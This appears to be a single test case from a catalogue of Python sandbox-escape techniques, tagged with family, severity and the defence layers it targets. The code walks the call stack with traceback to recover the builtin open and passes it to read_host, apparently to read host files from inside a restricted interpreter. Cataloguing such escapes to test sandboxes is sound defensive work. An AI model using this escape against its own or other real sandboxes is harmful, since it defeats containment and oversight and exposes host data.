# technique: walk the stack with the library that prints it
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick(depth=5):
    import traceback
    if depth:
        return trick(depth - 1)
    return list(traceback.walk_stack(None))[0][0].f_builtins["open"]

read_host(trick)
